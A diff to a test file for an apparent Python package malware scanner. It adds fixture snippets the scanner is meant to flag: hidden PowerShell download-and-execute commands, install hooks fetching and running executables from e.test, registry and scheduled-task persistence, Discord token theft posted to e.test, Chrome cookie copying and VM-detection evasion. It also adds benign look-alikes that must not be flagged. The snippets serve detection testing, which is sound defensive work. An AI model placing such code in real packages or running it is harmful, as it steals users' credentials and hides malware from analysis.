@@ -111,6 +111,101 @@ HITS = [
                 install.run(self)
         setup(name="x", version="1.0", cmdclass={"install": Post})
         """), "install", "low"),
+    # Windows-only payloads: nothing of them runs in the Linux guest
+    ("static.powershell_payload", "setup.py",
+     dedent("""
+        import os, subprocess
+        if os.name == "nt":
+            subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-enc",
+                              "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgA="],
+                             creationflags=0x08000000)
+        """) + SETUP_TAIL, "install", "critical"),
+    ("static.powershell_payload", "x/__init__.py",
+     dedent("""
+        import os, platform
+        CMD = ("powershell -NoP -c IEX (New-Object Net.WebClient)"
+               ".DownloadString('http://e.test/a.ps1')")
+        if platform.system() == "Windows":
+            os.system(CMD)
+        """), "import", "critical"),
+    ("static.powershell_payload", "x/tools.py",
+     "import subprocess\ndef go():\n    subprocess.run('powershell.exe -EncodedCommand "
+     "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAC4AdABlAHMAdAApAA==')\n", "run", "high"),
+    ("static.download_exe", "setup.py",
+     dedent("""
+        import os, urllib.request
+        from setuptools import setup
+        from setuptools.command.install import install
+        class Post(install):
+            def run(self):
+                install.run(self)
+                if os.name == "nt":
+                    path = os.path.join(os.getenv("APPDATA"), "WindowsUpdate.exe")
+                    urllib.request.urlretrieve("http://e.test/u.exe", path)
+                    os.startfile(path)
+        setup(name="x", version="1.0", cmdclass={"install": Post})
+        """), "install", "critical"),
+    ("static.download_exe", "x/__init__.py",
+     dedent("""
+        import os, subprocess, tempfile, requests
+        if os.name == "nt":
+            exe = os.path.join(tempfile.gettempdir(), "svchost.exe")
+            with open(exe, "wb") as f:
+                f.write(requests.get("https://e.test/p").content)
+            subprocess.Popen([exe], creationflags=subprocess.CREATE_NO_WINDOW)
+        """), "import", "critical"),
+    ("static.persistence", "x/__init__.py",
+     dedent("""
+        import sys, winreg
+        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
+                             r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0,
+                             winreg.KEY_SET_VALUE)
+        winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable)
+        """), "import", "high"),
+    ("static.persistence", "setup.py",
+     "import os\nos.system('schtasks /create /sc onlogon /tn upd /tr C:\\\\x.exe')\n"
+     + SETUP_TAIL, "install", "high"),
+    ("static.exfiltrate", "x/__init__.py",
+     dedent(r"""
+        import os, re, requests
+        tokens = []
+        path = os.getenv("APPDATA") + "\\discordcanary" + "\\Local Storage\\leveldb"
+        for name in os.listdir(path):
+            for line in open(os.path.join(path, name), errors="ignore"):
+                tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
+        requests.post("https://e.test/t", json={"t": tokens})
+        """), "import", "critical"),
+    ("static.credential_read", "x/grab.py",
+     dedent(r"""
+        import os, shutil
+        def grab():
+            src = os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default"
+            shutil.copy(src + "\\Cookies", "c.db")
+        grab()
+        """), "import", "high"),
+    # sandbox evasion: look at what the machine is, leave when it is an analysis VM
+    ("static.sandbox_evasion", "setup.py",
+     dedent("""
+        import sys
+        vendor = open("/sys/class/dmi/id/sys_vendor").read().strip()
+        if vendor in ("QEMU", "innotek GmbH", "VMware, Inc."):
+            sys.exit(0)
+        """) + SETUP_TAIL, "install", "high"),
+    ("static.sandbox_evasion", "x/__init__.py",
+     dedent("""
+        import getpass, os
+        if getpass.getuser() in ("WDAGUtilityAccount", "sandbox") or "hypervisor" in open(
+            "/proc/cpuinfo"
+        ).read():
+            os._exit(0)
+        """), "import", "high"),
+    ("static.sandbox_evasion", "x/__init__.py",
+     dedent("""
+        import platform
+        VMS = ["vbox", "vmware", "qemu"]
+        if any(v in platform.node().lower() for v in VMS):
+            raise SystemExit
+        """), "import", "high"),
     ("static.reverse_shell", "tests/test_x.py",
      "import os\nos.system('nc -e /bin/sh 203.0.113.9 4444')\n", "tests", "low"),
     ("static.reverse_shell", "x/__main__.py",
@@ -160,7 +255,59 @@ QUIET = [
      "    s.connect(('10.255.255.1', 80))\n"),
     ("x/__init__.py", "import os\nos.environ['LD_LIBRARY_PATH'] = '/opt/lib'\n"),
     ("x/__init__.py", "def f(:\n    pass\n"),  # a syntax error is no finding
+    # Windows look-alikes: platformdirs-style paths, a Run key read
+    ("x/__init__.py", dedent(r"""
+        import os
+        def user_data_dir(app):
+            if os.name == "nt":
+                return os.path.join(os.getenv("LOCALAPPDATA"), app, "User Data")
+            return os.path.expanduser("~/.local/share/" + app)
+        """)),
+    ("x/__init__.py", "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+     "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
+     "v = winreg.QueryValueEx(k, 'x')\n"),
+    # VM facts read to report them (py-cpuinfo, cloud SDKs' platform checks): no exit
+    ("x/__init__.py", dedent("""
+        def on_gce():
+            with open("/sys/class/dmi/id/product_name") as f:
+                return "Google" in f.read()
+        def flags():
+            info = open("/proc/cpuinfo").read()
+            if "hypervisor" in info:
+                return {"virtual": True}
+            return {}
+        """)),
+    ("x/__init__.py", "import sys, platform\nif platform.system() == 'Windows':\n"
+     "    sys.exit('x needs a POSIX system')\n"),
 ]  # fmt: skip
+
+
+# Windows look-alikes that the older, broader rules rate (a PowerShell command line is
+# static.dangerous_command, a download then a spawn static.download_run) but that are not
+# the hidden payloads of the critical rules: a helper encoding its own script at run
+# time, a build fetching a tool into its build dir and running it in the open.
+WINDOWS_QUIET = [
+    ("x/shell.py", dedent("""
+        import base64, subprocess
+        def ps(script):
+            enc = base64.b64encode(script.encode("utf-16-le")).decode()
+            return subprocess.run(["powershell", "-NoProfile", "-EncodedCommand", enc])
+        """)),
+    ("setup.py", dedent("""
+        import os, subprocess, urllib.request
+        if os.name == "nt":
+            urllib.request.urlretrieve("https://e.test/nasm.exe", "build/nasm.exe")
+            subprocess.check_call(["build/nasm.exe", "-v"])
+        """) + SETUP_TAIL),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("path", "source"), WINDOWS_QUIET)
+def test_windows_look_alikes_are_not_payloads(tmp_path: Path, path: str, source: str) -> None:
+    """Run-time encoding and an open build download are no powershell_payload/download_exe."""
+    found = scan_sdist(tmp_path, {path: source})
+    assert not {r for r, _ in found} & {"static.powershell_payload", "static.download_exe"}
+    assert "critical" not in found.values()
 
 
 @pytest.mark.parametrize(("path", "source"), QUIET)
